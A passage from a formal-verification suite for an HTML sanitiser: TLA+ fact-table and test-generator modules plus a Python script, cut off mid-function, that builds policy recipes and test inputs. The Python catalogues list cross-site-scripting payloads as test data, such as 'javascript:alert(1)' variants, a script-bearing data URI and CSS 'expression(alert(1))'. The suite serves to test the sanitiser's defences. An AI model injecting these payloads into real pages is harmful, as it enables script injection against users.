   IsMark(s.stack, i) \/ (Known(p, s.stack[i]) /\ ~BareOK(p, s.stack[i]) /\ ~Void(s.stack[i]))
=============================================================================
