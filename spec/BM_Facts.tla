------------------------------ MODULE BM_Facts ------------------------------
(***************************************************************************)
(* Fact tables.  The specification never looks inside a string: what a     *)
(* regular expression, net/url, the CSS scanner or a user callback answers *)
(* on a concrete string is a FACT handed to TLC by the harness (for model  *)
(* checking: computed for the value catalogue before TLC starts; for trace *)
(* validation: computed for every string that occurs in the recorded       *)
(* execution).  Strings are byte strings in the harness' reversible        *)
(* encoding; concatenation commutes with the encoding.                     *)
(*                                                                         *)
(* A missing fact is an evaluation error (TLC stops; the runner reports an *)
(* infrastructure failure, never a violation) except for the tables marked *)
(* "default".                                                              *)
(***************************************************************************)
EXTENDS Integers, Sequences, FiniteSets, TLC

\* The fact record (see the operators below for its fields).  It lives in TLC register 42, which
\* the root module of every run fills from the file named by the environment variable FACTS.
F == TLCGet(42)

AnyId == "ANY"      \* matcher id of an attribute rule without a value pattern

\* element pattern `pat` (regexp source) matches element name n
PatMatch(pat, n) == F.pat[pat][n]

\* attribute value matcher mid accepts the HTML-decoded value v
M(mid, v) == IF mid = AnyId THEN TRUE ELSE F.m[mid][v]

\* attribute name has the documented data-* shape
IsData(k) == F.isdata[k]

\* normaliseElementName; default: identity (ASCII names)
Norm(n) == IF n \in DOMAIN F.norm THEN F.norm[n] ELSE n

\* strings.ToLower of a name given to a builder call; default: identity
Lower(s) == IF s \in DOMAIN F.lower THEN F.lower[s] ELSE s

\* what net/url says about a value:  [ws, data, perr, scheme, norm, empty]
\*   ws     trimmed value contains SP, TAB or LF
\*   data   trimmed value starts with "data:"
\*   perr   url.Parse fails (after the base64 CR/LF clean-up for data URIs)
\*   scheme u.Scheme           norm  u.String(), white space around it trimmed       empty  norm = ""
Url(v) == F.url[v]

\* link hardening treats the href as external: url.Parse of v (white space around it ignored) finds a host, or cannot parse it at all
\* (evaluated on whatever value the href has at that point)
HasHost(v) == F.host[v]

\* verdict of custom URL policy fid on value v
Custom(fid, v) == F.custom[fid][v]

\* result of the installed src rewriter fid on normalised URL u
Rewrite(fid, u) == F.rewrite[fid][u]

\* strings.Fields(v), and the same lower-cased
Fields(v)  == F.fields[v]
LFields(v) == F.lfields[v]

\* what the CSS declaration parser returns for a style value:
\*   [err |-> BOOLEAN, decls |-> << [p, v, lp, dv] ... >>]
\*   p, v   property and value as parsed;  lp lower-case vendor-stripped property;
\*   dv     the value lower-cased with CSS escapes decoded
Css(v) == F.css[v]

\* style matcher smid accepts decoded value dv
SM(smid, dv) == F.sm[smid][dv]

\* default handler id of a property
DefHandler(prop) == F.defh[prop]

SetOf(seq) == {seq[i] : i \in DOMAIN seq}
=============================================================================
