----------------------------- MODULE MC_Matchers -----------------------------
(***************************************************************************)
(* Two generators per matcher:                                              *)
(*   build   every string up to MaxLen over the matcher's own characters    *)
(*           plus the hostile ones (exhaustive);                            *)
(*   mutate  every single and double character substitution of the          *)
(*           documented examples;                                           *)
(*   wide    every string of one or two characters, and every single        *)
(*           substitution of the examples, over ALL printable ASCII plus    *)
(*           the control and non-ASCII stand-ins: a loosened class, a stray *)
(*           metacharacter or an unescaped dot admits some character that   *)
(*           the narrow alphabets need not contain;                         *)
(*   wideinsert  one character of the wide alphabet inserted at every      *)
(*           position of every example;                                     *)
(*   splice  for the keyword matchers, every prefix of a documented word    *)
(*           glued to every suffix of a documented word (abs+top,           *)
(*           text+middle, ...): a factored alternation accepts cross        *)
(*           products the documentation does not list.                      *)
(* Every generated string is emitted with the verdict of the documented     *)
(* form; the harness asks the real regexp.                                  *)
(***************************************************************************)
EXTENDS BM_Matchers, Json

CONSTANTS MaxLen, Subst, Emit

\* per matcher: a working alphabet (own characters that matter + hostile ones) and documented examples
\* a line feed is a control character too; it is documented only for the two free-text matchers
LineFeed(m) == IF m \in {"SpaceSeparatedTokens", "Paragraph"} THEN {} ELSE {"LF"}
Alphabet(m) ==
  Hostile \cup LineFeed(m) \cup
  CASE m = "CellAlign" -> {"l", "e", "f", "t", "T", " "}
    [] m = "CellVerticalAlign" -> {"t", "o", "p", "P", " "}
    [] m = "Direction" -> {"r", "t", "l", "L", " "}
    [] m = "ImageAlign" -> {"t", "o", "p", "O", " "}
    [] m = "ListType" -> {"a", "A", "i", "1", "d", " "}
    [] m = "Integer" -> {"0", "7", "-", "+", ".", " ", "NUMBER-ARABIC-INDIC-3"}
    [] m = "ISO8601" -> {"1", "9", "-", ":", "T", "Z", ".", "+", " "}
    [] m = "SpaceSeparatedTokens" -> {"a", "Z", "7", " ", "TAB", "_", "-", "LETTER-E-ACUTE", ".", "/"}
    [] m = "Number" -> {"1", "0", ".", "e", "E", "-", "+", " ", "x"}
    [] m = "NumberOrPercent" -> {"1", "0", "%", ".", "-", " "}
    [] m = "Paragraph" -> {"a", "7", " ", "LF", "'", "(", "BACKSLASH", "LETTER-CJK", ":", "@"}

Punct == {" ", "!", "#", "$", "%", "&", "'", "(", ")", "*", "+", ",", "-", ".", "/", ":", ";", "<", "=", ">", "?", "@",
          "[", "]", "^", "_", "`", "{", "|", "}", "~"}
Wide  == Lower \cup Upper \cup Digit \cup Punct \cup
         {"QUOTE", "BACKSLASH", "TAB", "LF", "FF", "CR", "NUL", "CTRL-1", "LETTER-E-ACUTE", "LETTER-CJK", "NUMBER-ARABIC-INDIC-3"}

Str(w) == w
Examples(m) ==
  CASE m = "CellAlign" -> CellAlignWords \cup {<<"L","e","f","T">>}
    [] m = "CellVerticalAlign" -> CellVAlignWords
    [] m = "Direction" -> DirectionWords \cup {<<"R","T","L">>}
    [] m = "ImageAlign" -> ImageAlignWords
    [] m = "ListType" -> ListTypeWords \cup {<<"A">>, <<"I">>}
    [] m = "Integer" -> {<<"0">>, <<"1","2">>, <<"0","0","7">>}
    [] m = "ISO8601" -> {<<"1","9","9","7">>, <<"1","9","9","7","-","0","7">>, <<"1","9","9","7","-","0","7","-","1","6">>,
                         <<"1","9","9","7","-","0","7","-","1","6","T","1","9",":","2","0","+","0","1",":","0","0">>,
                         <<"1","9","9","7","-","0","7","-","1","6","T","1","9",":","2","0",":","3","0","+","0","1",":","0","0">>,
                         <<"1","9","9","7","-","0","7","-","1","6","T","1","9",":","2","0",":","3","0",".","4","5","+","0","1",":","0","0">>}
    [] m = "SpaceSeparatedTokens" -> {<<"a"," ","b">>, <<"n","o","f","o","l","l","o","w">>, <<"x","_","1","-","y">>}
    [] m = "Number" -> {<<"1">>, <<"-","1",".","5">>, <<"3","e","1","0">>, <<".","5">>, <<"+","2","E","-","3">>}
    [] m = "NumberOrPercent" -> {<<"1","0","0">>, <<"5","0","%">>}
    [] m = "Paragraph" -> {<<"H","i",","," ","y","o","u","!">>, <<"i","t","'","s"," ","(","o","k",")"," ","[","1","]","/","2",".">>, <<>>}

KeywordWords(mm) ==
  CASE mm = "CellAlign" -> CellAlignWords
    [] mm = "CellVerticalAlign" -> CellVAlignWords
    [] mm = "Direction" -> DirectionWords
    [] mm = "ImageAlign" -> ImageAlignWords
    [] mm = "ListType" -> ListTypeWords
    [] OTHER -> {}
Splices(mm) == {SubSeq(w1, 1, i) \o SubSeq(w2, j, Len(w2)) :
                  <<w1, w2, i, j>> \in {x \in KeywordWords(mm) \X KeywordWords(mm) \X (0..12) \X (1..13) :
                                         x[3] <= Len(x[1]) /\ x[4] <= Len(x[2]) + 1}}

VARIABLES m, s, mode, nsub
vars == <<m, s, mode, nsub>>

Init == \/ m \in Matchers /\ s = <<>> /\ mode = "build" /\ nsub = 0
        \/ m \in Matchers /\ s \in Examples(m) /\ mode = "mutate" /\ nsub = 0
        \/ m \in Matchers /\ s = <<>> /\ mode = "wide" /\ nsub = 0
        \/ m \in Matchers /\ s \in Examples(m) /\ mode = "widemutate" /\ nsub = 0
        \/ m \in Matchers /\ s \in Splices(m) /\ mode = "splice" /\ nsub = 0
        \/ m \in Matchers /\ s \in Examples(m) /\ mode = "wideinsert" /\ nsub = 0

Next == \/ /\ mode = "build" /\ Len(s) < MaxLen
           /\ \E c \in Alphabet(m) : s' = Append(s, c)
           /\ UNCHANGED <<m, mode, nsub>>
        \/ /\ mode = "mutate" /\ nsub < Subst
           /\ \E i \in DOMAIN s, c \in Alphabet(m) : s' = [s EXCEPT ![i] = c]
           /\ nsub' = nsub + 1 /\ UNCHANGED <<m, mode>>
        \/ /\ mode = "wide" /\ Len(s) < 2
           /\ \E c \in Wide : s' = Append(s, c)
           /\ UNCHANGED <<m, mode, nsub>>
        \/ /\ mode = "wideinsert" /\ nsub < 1      \* one character inserted at any position of an example
           /\ \E i \in 0..Len(s), c \in Wide : s' = SubSeq(s, 1, i) \o <<c>> \o SubSeq(s, i + 1, Len(s))
           /\ nsub' = nsub + 1 /\ UNCHANGED <<m, mode>>
        \/ /\ mode = "widemutate" /\ nsub < 1
           /\ \E i \in DOMAIN s, c \in Wide : s' = [s EXCEPT ![i] = c]
           /\ nsub' = nsub + 1 /\ UNCHANGED <<m, mode>>

Spec == Init /\ [][Next]_vars

IsExample == mode \in {"mutate", "widemutate", "wideinsert"} /\ nsub = 0
EmitCase == Emit => PrintT(<<"CASE", ToJson([m |-> m, s |-> s, doc |-> DocForm(m, s), ex |-> IsExample])>>)

\* the documented forms are themselves closed, anchored recognisers; the examples are in documented form
InvClosed == Closed(m, s)
InvNoHostile == DocForm(m, s) => \A i \in DOMAIN s : s[i] \notin Hostile
InvExamples == IsExample => DocForm(m, s)
View == <<m, s, mode>>
=============================================================================
