------------------------------- MODULE MC_Css -------------------------------
(***************************************************************************)
(* Default CSS value handlers (C18).  A value is a sequence of atoms of the *)
(* property's own vocabulary into which one hostile fragment is spliced:     *)
(*   sep     as a separate space-separated token at position pos (0..n)      *)
(*   before  glued in front of atom pos        after   glued behind atom pos *)
(*   inside  inserted at every cut of atom pos                               *)
(*   subst   replacing each single character of atom pos in turn             *)
(*   comma   atom pos "," fragment             slash   atom pos "/" fragment *)
(*   newline atom pos LF fragment (a line of its own)                        *)
(*   mid     atom pos, fragment, atom pos again (the fragment in the middle  *)
(*           of three components)                                            *)
(* The verdict is computed from the STRUCTURE of the value, not by searching *)
(* the string: every splice must be rejected, except a fragment made only of *)
(* URL-safe characters placed inside a plain url(http...) atom (it stays a   *)
(* plain http reference: don't care).  An un-spliced single atom is expected *)
(* to be accepted (a non-vacuity measurement, not a verdict).                *)
(***************************************************************************)
EXTENDS Integers, Sequences, FiniteSets, TLC, Json, IOUtils

FamFile == IF "FAM" \in DOMAIN IOEnv THEN IOEnv.FAM ELSE "fam_css.json"
ASSUME TLCSet(43, JsonDeserialize(FamFile))
ASSUME TLCGet(43) = TLCGet(43)
Fam == TLCGet(43)

CONSTANTS MaxAtoms, Emit, PropLo, PropHi     \* properties PropLo..PropHi of the sorted list (to split the work)

Props == DOMAIN Fam.props
Modes == {"sep", "before", "after", "inside", "subst", "comma", "slash", "newline", "mid"}

VARIABLES prop, base, frag, mode, pos
vars == <<prop, base, frag, mode, pos>>

PropList == Fam.proplist
Init == \E i \in PropLo..PropHi : i <= Len(PropList) /\ prop = PropList[i] /\ base = <<>> /\ frag = 0 /\ mode = "none" /\ pos = 0

AddAtom == /\ frag = 0 /\ Len(base) < MaxAtoms
           /\ \E k \in DOMAIN Fam.props[prop] : base' = Append(base, k)
           /\ UNCHANGED <<prop, frag, mode, pos>>

Splice == /\ frag = 0
          /\ \E f \in DOMAIN Fam.frags, md \in Modes :
               /\ frag' = f /\ mode' = md
               /\ IF md = "sep" THEN pos' \in 0..Len(base) ELSE (base # <<>> /\ pos' \in 1..Len(base))
          /\ UNCHANGED <<prop, base>>

Next == AddAtom \/ Splice
Spec == Init /\ [][Next]_vars

Atom(k) == Fam.props[prop][k]

Verdict ==
  IF frag = 0 THEN (IF Len(base) = 1 THEN "accept-expected" ELSE "plain")
  ELSE IF mode \in {"inside", "subst"} /\ Atom(base[pos]).plainurl /\ Fam.frags[frag].urlsafe THEN "dontcare"
  ELSE "reject"

\* a spliced value is never "accept"
InvHostileRejected == frag # 0 => Verdict \in {"reject", "dontcare"}

EmitCase == Emit => PrintT(<<"CASE", ToJson([prop |-> prop, atoms |-> [i \in DOMAIN base |-> Atom(base[i]).a],
                                              frag |-> IF frag = 0 THEN "" ELSE Fam.frags[frag].t, mode |-> mode, pos |-> pos,
                                              verdict |-> Verdict])>>)
=============================================================================
