#!/usr/bin/env python3
"""Generates the bounded-model families (policy recipes + token alphabets) as JSON.
Deterministic; the output files are committed next to this script."""
import json, itertools, sys, os

def call(m, **kw):
    c = dict(m=m, names=[], pat="", attrs=[], match="", noattrs=False, scope="", els=[], props=[],
             handler="", enum="", re="", schemes=[], scheme="", fid="", b=False, vals=[])
    c.update(kw)
    # names are strings the specification compares with token names: same encoding as the tokens (identity for plain ASCII);
    # regular expression sources and matcher ids stay as they are
    for k in ("names", "attrs", "els", "props", "schemes", "vals"):
        c[k] = [enc(x) for x in c[k]]
    return c

def enc(s):
    """The harness' reversible string encoding (h.Enc): printable ASCII except % " \\ stays, other bytes become %HH."""
    out = []
    for b in s.encode("utf-8", "surrogateescape"):
        if b < 0x20 or b > 0x7e or b in (0x25, 0x22, 0x5c):
            out.append("%%%02X" % b)
        else:
            out.append(chr(b))
    return "".join(out)

def tok(t, n="", a=(), d=""):
    return dict(t=t, n=enc(n), a=[dict(k=enc(k), v=enc(v)) for k, v in a], d=enc(d))

def AA(attrs, els=(), match="", noattrs=False, pat=None):
    if pat is not None:
        return call("AllowAttrs", attrs=list(attrs), match=match, noattrs=noattrs, scope="pat", pat=pat)
    if els:
        return call("AllowAttrs", attrs=list(attrs), match=match, noattrs=noattrs, scope="els", els=list(els))
    return call("AllowAttrs", attrs=list(attrs), match=match, noattrs=noattrs, scope="glob")

# ---------------------------------------------------------------- loop family
def fam_loop():
    base = [call("NewPolicy"),
            call("AllowElements", names=["b", "div"]),
            AA(["href"], ["a"]),
            AA(["src"], ["img"]),
            AA(["title"], []),
            AA(["class"], pat="^custom-", noattrs=True),
            call("AllowElementsMatching", pat="^x-")]
    recipes = []
    for spaces, comments, allowscript, unskip in itertools.product([False, True], repeat=4):
        r = list(base)
        if spaces: r.append(call("AddSpaceWhenStrippingTag", b=True))
        if comments: r.append(call("AllowComments"))
        if allowscript:
            r.append(AA(["type"], ["script"], noattrs=True))
            r.append(call("AllowElementsMatching", pat="^sty"))
            r.append(AA(["class"], ["xmp"]))            # a raw-text element allowed only with attributes
            r.append(call("AllowUnsafe", b=False))      # saying "no" explicitly must stay "no"
        if unskip: r.append(call("AllowElementsContent", names=["script", "style", "object"]))
        # elements that are allowed through a pattern AND listed in the skip-content set
        if spaces != comments: r.append(call("SkipElementsContent", names=["custom-x", "x-y", "B", "donn\u00e9es"]))
        # an attribute rule with an empty attribute list on skip-content elements changes nothing
        if spaces and unskip: r.append(AA([], ["object", "title", "blink"]))
        recipes.append(r)
    # a zero-value Policy{} that names script and style: the deny-list must not depend on how the policy came to be
    recipes.append([call("ZeroValue"), call("AllowElements", names=["b", "div"]), AA(["type"], ["script"], noattrs=True),
                    call("AllowElementsMatching", pat="^sty"), AA(["title"], [])])
    # AllowUnsafe(true): script/style may pass and their bodies are written unescaped (conformance only: the
    # listed properties all exclude AllowUnsafe)
    for allowscript, comments in itertools.product([False, True], repeat=2):
        r = list(base) + [call("AllowUnsafe", b=True)]
        if allowscript: r.append(AA(["type"], ["script", "style"], noattrs=True))
        if comments: r.append(call("AllowComments"))
        recipes.append(r)
    names = {
        "b": [()],                                   # allowed, bare OK
        "a": [(), (("href", "/x"),), (("onclick", "x"),)],        # allowed, never bare
        "img": [(), (("src", "/i"),)],               # void, never bare
        "custom-x": [(), (("class", "k"),)],         # pattern, bare OK
        "x-y": [(), (("class", "k"),)],              # pattern, no attribute rules: never emitted
        "x-caf\u00e9": [()],                           # pattern-allowed, never bare, non-ASCII name
        "xmp": [(), (("class", "k"),)],              # raw-text element (allowed with attributes in some recipes)
        "d\u0130v": [(), (("title", "t"),)],           # look-alike of an allowed name (U+0130 lower-cases to ASCII i)
        "blink": [()],                               # unknown
        "o:b": [(), (("title", "t"),)],              # a prefixed spelling of an allowed name is another element
        "donn\u00e9es": [()],                           # unknown, non-ASCII name, in the skip set of some recipes
        "object": [()],                              # unknown, skip set
        "frame": [()],                               # unknown, skip set, void
        "script": [(), (("type", "t"),)],            # unsafe
        "style": [()],                               # unsafe
        "title": [()],                               # unknown, skip set, RCDATA
    }
    toks = []
    for n, avs in names.items():
        for a in avs:
            toks.append(tok("start", n, a))
            if n not in ("title", "style", "frame", "x-caf\u00e9", "donn\u00e9es"):
                toks.append(tok("self", n, a))
        toks.append(tok("end", n))
    toks += [tok("text", d="<i a=1>t&<x"), tok("comment", d="cmt"), tok("comment", d="[CDATA[x]]"), tok("doctype", d="html"),
             tok("comment", d="c--><i a=1>")]       # comment data that would end the comment if written unescaped
    return dict(name="loop", recipes=recipes, tokens=toks)

def fam_loopq():
    f = fam_loop()
    # quick tier: 4 of the 16 recipes (every option on in at least one, off in at least one)
    f["recipes"] = [f["recipes"][i] for i in (0, 6, 9, 15)]   # 6 and 9 also have pattern-allowed elements in the skip set
    f["name"] = "loopq"
    return f


# ---------------------------------------------------------------- attribute families
def av(k, vals):
    return [dict(k=enc(k), v=enc(v)) for v in vals]

def fam_link():
    """C11: all 2^5 link-option combinations x a/area/link x order and multiplicity of href/rel/target."""
    opts = ["RequireNoFollowOnLinks", "RequireNoFollowOnFullyQualifiedLinks", "RequireNoReferrerOnLinks",
            "RequireNoReferrerOnFullyQualifiedLinks", "AddTargetBlankToFullyQualifiedLinks"]
    recipes = []
    for bits in itertools.product([False, True], repeat=5):
        r = [call("NewPolicy"), AA(["href", "rel", "target"], ["a", "area", "link"]),
             call("AllowURLSchemes", schemes=["http", "https"]), call("AllowRelativeURLs", b=True)]
        for o, b in zip(opts, bits):
            if b: r.append(call(o, b=True))
        if not any(bits): r.append(call("RequireParseableURLs", b=True))
        recipes.append(r)
    # an option switched on and off again, and URL checking switched off after the link options
    recipes.append([call("NewPolicy"), AA(["href", "rel", "target"], ["a", "area", "link"]),
                    call("RequireNoFollowOnLinks", b=True), call("RequireNoFollowOnLinks", b=False),
                    call("AddTargetBlankToFullyQualifiedLinks", b=True), call("AllowURLSchemes", schemes=["http"])])
    recipes.append([call("NewPolicy"), AA(["href", "rel", "target"], ["a", "area", "link"]),
                    call("RequireNoReferrerOnLinks", b=True), call("AddTargetBlankToFullyQualifiedLinks", b=True),
                    call("RequireParseableURLs", b=False)])
    recipes.append([call("ZeroValue"), call("RequireNoFollowOnLinks", b=True), call("AddTargetBlankToFullyQualifiedLinks", b=True),
                    AA(["href", "rel", "target"], ["a", "area", "link"]), call("AllowURLSchemes", schemes=["http", "https"])])
    # target is admitted, rel is not: whatever rel the output carries is the sanitiser's own
    recipes.append([call("NewPolicy"), AA(["href", "target"], ["a", "area", "link"]), call("AllowURLSchemes", schemes=["http", "https"]),
                    call("AllowRelativeURLs", b=True), call("RequireNoFollowOnLinks", b=True), call("AddTargetBlankToFullyQualifiedLinks", b=True)])
    alpha = (av("href", ["http://e.com/x", "/rel", "javascript:x", "http://e.com/%zz", "/p?a\u00a0#", " //evil.example/x", "\u00a0//evil.example/y", "http://e.com/?a=1&amp;amp;b=2"]) +
             av("rel", ["nofollow", "NOFOLLOW", "xnofollowx", "tag noopener", "notnoopenerx noreferrer", ""]) +
             av("target", ["_blank", "_top"]))
    return dict(name="link", recipes=recipes, tokens=[], attrs={"a": alpha, "area": alpha, "link": alpha})

URLS = ["http://example.org/a?b=1&c=2", "https://e.com", "/rel/path", "#frag", "javascript:alert(1)", "JaVaScRiPt:alert(1)",
        " javascript:alert(1)", "java\tscript:alert(1)", "data:image/png;base64,iVBORw0KGgo=", "data:text/html,<script>alert(1)</script>",
        "mailto:a@b.c", "//host/p", "http://a b/", "%zz", "", "ftp://f/x", "tel:+1", "http:\\\\e.com\\p", "HTTP://EXAMPLE.ORG/Up",
        "http://u:p@example.org/", "\x01javascript:alert(1)", "x:y", "?q=1", "http://example.com/\u00e9",
        " http://example.org/lead", "https://e.com/trail\n", "data:image/png;base64,iVBO\nRw0KGgo=",
        "https:opaque.example/p.gif", "httpx://e.com/", "a b", "x\ty", "/caf\u00e9/menu", "http://e.com/%zz",
        "/p?a\u00a0#", "?q\u2003#", "http://e.com/?a=1&amp;amp;b=2",
        "http://example.org/search?q=free money", "http://example.org/#a b"]     # Unicode white space in front of an empty fragment

def fam_url():
    """C03: every listed URL position x the URL catalogue x scheme allowlists / custom checks / relative / rewriter."""
    els = {"a": "href", "area": "href", "base": "href", "link": "href", "blockquote": "cite", "del": "cite", "ins": "cite",
           "q": "cite", "audio": "src", "embed": "src", "iframe": "src", "img": "src", "input": "src", "script": "src",
           "source": "src", "track": "src", "video": "src", "span": "href"}
    base = [call("NewPolicy"), AA(["href", "cite", "src", "class"], sorted(els))]
    hx = "f:verifharness/h.URLPolExampleHost"
    nq = "f:verifharness/h.URLPolNoQuery"
    prox = "f:verifharness/h.RewriteProxy"
    recipes = [
        base + [call("AllowURLSchemes", schemes=["http", "https"])],
        base + [call("AllowURLSchemes", schemes=["HTTP", "mailto"]), call("AllowRelativeURLs", b=True)],
        base + [call("AllowRelativeURLs", b=True), call("AllowURLSchemeWithCustomPolicy", scheme="http", fid=hx),
                call("AllowURLSchemeWithCustomPolicy", scheme="http", fid=nq)],
        base + [call("AllowRelativeURLs", b=True), call("AllowURLSchemes", schemes=["https"]), call("AllowURLSchemesMatching", pat="^(ftp|tel)$")],
        base + [call("AllowURLSchemes", schemes=["http", "https"]), call("AllowRelativeURLs", b=True), call("RewriteSrc", fid=prox)],
        base + [call("AllowURLSchemes", schemes=["http"]), call("RequireParseableURLs", b=False)],
        base + [call("AllowDataURIImages"), call("AllowRelativeURLs", b=True)],
        base + [call("AllowStandardURLs")],
        base + [call("AllowURLSchemeWithCustomPolicy", scheme="http", fid=hx), call("AllowURLSchemes", schemes=["http"])],
        base + [call("AllowURLSchemesMatching", pat="^x")],
        base + [call("AllowURLSchemes", schemes=["http"]), call("AllowURLSchemeWithCustomPolicy", scheme="HTTP", fid=hx)],
        base + [call("AllowURLSchemes", schemes=["data", "http"]), call("AllowRelativeURLs", b=True), call("AllowRelativeURLs", b=False)],
        [call("NewPolicy"), call("AllowElements", names=sorted(els)), AA(["href", "cite", "src"], []), call("AllowURLSchemes", schemes=["http", "https"])],
        base + [call("AllowRelativeURLs", b=True)],
        base + [call("RequireParseableURLs", b=True)],
        base + [call("AllowURLSchemes", schemes=["http"]), call("RewriteSrc", fid=prox)],     # the rewriter's own output is not a URL the policy admits
    ]
    attrs = {el: av(k, URLS) + av("class", ["k"]) for el, k in els.items()}
    return dict(name="url", recipes=recipes, tokens=[], attrs=attrs)

def fam_urldup():
    """C03: several URL attributes on one tag (the same name repeated, good and bad values in either order)."""
    f = fam_url()
    vals = ["http://example.org/a", "javascript:alert(1)", "vbscript:x", "/rel/path", "a b"]
    els = {"a": "href", "img": "src", "q": "cite"}
    f["attrs"] = {el: av(k, vals) + av("class", ["k"]) for el, k in els.items()}
    f["recipes"] = [f["recipes"][i] for i in (0, 1, 4, 5, 7, 12, 13)]
    f["name"] = "urldup"
    return f

def fam_forced():
    """C12: crossorigin and sandbox forcing."""
    els = ["audio", "img", "link", "video", "iframe", "span", "script"]
    base = [call("NewPolicy"), AA(["src", "crossorigin", "sandbox", "class"], els)]
    sb = [None, [], ["allow-forms"], ["allow-forms", "allow-scripts"],
          ["allow-downloads", "allow-downloads-without-user-activation", "allow-forms", "allow-modals", "allow-orientation-lock",
           "allow-pointer-lock", "allow-popups", "allow-popups-to-escape-sandbox", "allow-presentation", "allow-same-origin",
           "allow-scripts", "allow-storage-access-by-user-activation", "allow-top-navigation", "allow-top-navigation-by-user-activation"]]
    recipes = []
    for co in (False, True):
        for s in sb:
            r = list(base)
            if co: r.append(call("RequireCrossOriginAnonymous", b=True))
            if s is not None: r.append(call("RequireSandboxOnIFrame", vals=s))
            recipes.append(r)
    recipes.append([call("NewPolicy"), call("AllowIFrames", vals=["allow-forms"]), call("RequireCrossOriginAnonymous", b=True),
                    call("RequireCrossOriginAnonymous", b=False), call("RequireSandboxOnIFrame", vals=["allow-scripts"])])
    recipes.append(base + [call("AllowURLSchemes", schemes=["https"]), call("RequireSandboxOnIFrame", vals=["allow-forms"]),
                           call("RequireCrossOriginAnonymous", b=True)])
    # crossorigin is forced but not itself allowed; URLs are checked and relative ones rejected (a policy in the class of C20)
    recipes.append([call("NewPolicy"), AA(["src", "class"], ["img", "audio", "span", "link"]), call("AllowURLSchemes", schemes=["https"]),
                    call("RequireCrossOriginAnonymous", b=True)])
    recipes.append(base + [call("RequireNoFollowOnLinks", b=True), call("RequireCrossOriginAnonymous", b=True)])
    recipes.append(base + [call("RequireSandboxOnIFrame", vals=["allow-popups-to-escape-sandbox"])])
    # script is emitted only under AllowUnsafe: it is one of the five elements the crossorigin clause names
    recipes.append(base + [call("AllowUnsafe", b=True), call("RequireCrossOriginAnonymous", b=True)])
    recipes.append(base + [call("AllowDataURIImages"), call("AllowRelativeURLs", b=True), call("RequireCrossOriginAnonymous", b=True)])
    recipes.append([call("NewPolicy"), AA(["src", "class"], ["iframe", "img"]), call("RequireSandboxOnIFrame", vals=["allow-forms"])])
    alpha = (av("crossorigin", ["anonymous", "use-credentials", ""]) +
             av("sandbox", ["allow-forms", "allow-forms allow-forms", "allow-scripts bogus\tallow-forms", "", "ALLOW-FORMS",
                            "allow-popups allow-popups-to-escape-sandbox"]) +
             av("src", ["/x", "data:image/png;base64,iVBORw0KGgo="]) + av("class", ["k"]) + av("onclick", ["x"]))
    return dict(name="forced", recipes=recipes, tokens=[], attrs={e: alpha for e in els})

def fam_allow():
    """C02: overlapping element / element-pattern / global rules, data attributes, never-bare elements."""
    lower, digits = "re:^[a-z]+$", "re:^[0-9]+$"
    base = [call("NewPolicy"),
            AA(["class"], ["span"], match=lower), AA(["CLASS"], [], match=digits), AA(["id"], []),
            AA(["title"], pat="^custom-", noattrs=True), AA(["title"], pat="-x$", match="re:^t"), AA(["rev"], pat="-x$"),
            AA(["title"], pat="^custom-", match="re:^z"),   # a second rule for the same attribute on the same pattern: rules accumulate
            AA(["dir"], pat="^custom-", match="re:^(rtl|ltr)$"),
            AA(["lang"], ["custom-x"]), call("AllowElements", names=["B"]), AA(["href"], ["a"]),
            AA(["style"], ["span"])]
    recipes = [base, base + [call("AllowDataAttributes")],
               base + [call("AllowAttrs", attrs=["rev", "onclick"], scope="els", els=[])],   # OnElements() with no element: allows nothing anywhere
               base + [AA(["class"], ["span"]), AA([], ["a"], noattrs=True),
                       call("AllowStyles", props=["color"], scope="els", els=["b"])],   # style rules for ANOTHER element only
               [call("NewPolicy"), AA(["class", "title"], pat=".*", match=lower), call("AllowElementsMatching", pat="^b")]]
    alpha = (av("class", ["abc", "123", "a1", " 123", "abc\n", "\tabc "]) + av("id", ["x"]) + av("title", ["tt", "zz", "bx-x", "custom-y"]) + av("lang", ["en"]) +
             av("onclick", ["x"]) + av("data-x", ["1"]) + av("data-a;b", ["1"]) + av("data-xmlq", ["1"]) + av("data-adata-;x", ["1"]) + av("\u0130d", ["x"]) + av("lan\u0261", ["en"]) + av("data-;x", ["1"]) + av("data-;", ["1"]) + av("data-data-xmlq", ["1"]) + av("x\"y", ["v"]) +
             av("href", ["/x"]) + av("style", ["color: red"]))
    # custom-x is also named explicitly (shadows the patterns); custom-b-x is reached through both patterns only
    els = ["span", "custom-x", "custom-y", "custom-b-x", "b", "a", "blink", "bx-x"]
    alpha = alpha + av("rev", ["1"]) + av("dir", ["rtl", "up"])
    return dict(name="allow", pairsweep=True, recipes=recipes, tokens=[], attrs={e: alpha for e in els})

STYLES = ["color: red", "color: red; background: url(javascript:alert(1))", "COLOR: RED; font-size: 12px", "text-align: center;;",
          "width: expression(alert(1))", "color: \\72 ed", "-webkit-transition: none", "color: red !important",
          "background-image: url('http://e.com/a;b.png')", "/* c */ color: blue", "color", "color: r\\65 d",
          "font-family: \\110000 x", "color: re\\20 d", "font-size: 12px; color: blue; width: 1px", "-moz--webkit-color: red", "",
          "color: r\\65D", "color: b\\6Cue", "width: 1px", "COLOR: \\52 ED", "width: red", "color: #fff",
          "color: \\5c 72 ed", "color: r\\0 ed", " ", "color: red; ", "color: r/**/ed", "color: re/* ; */d; width: 1px", "margin-inline-start: 1px; margin: 1px; overflow-anchor: auto"]      # an escape that decodes to a backslash in front of hex digits: decoded once, never rescanned

def fam_style():
    """C10: style rules at the three scopes with the four matcher kinds."""
    def AS(props, scope, els=(), pat="", handler="", enum="", re=""):
        return call("AllowStyles", props=list(props), scope=scope, els=list(els), pat=pat, handler=handler, enum=enum, re=re)
    base = [call("NewPolicy"), AA(["style", "class"], ["span", "p", "custom-x", "div"])]
    noparen = "h:verifharness/h.StyleHNoParen"
    recipes = [
        base + [AS(["color", "font-size", "text-align", "background", "width", "font-family", "transition", "background-image"], "glob")],
        base + [AS(["color"], "els", els=["span"], enum="e:red|blue"), AS(["font-size"], "glob", re="r:^[0-9]+px$")],
        base + [AS(["color", "width"], "pat", pat="^custom-", handler=noparen), AS(["COLOR"], "els", els=["P"], re="r:^(red|blue)$")],
        base + [AS(["color"], "els", els=["span"], enum="e:red"), AS(["color"], "els", els=["span"], re="r:^blue$"),
                AS(["color"], "pat", pat="^sp", enum="e:green")],
        base + [AS(["nosuchprop", "color"], "els", els=["span"])],
        base + [AS(["margin-inline-start", "overflow-anchor", "margin"], "els", els=["span"])],   # no default handler of their own, though a prefix has one
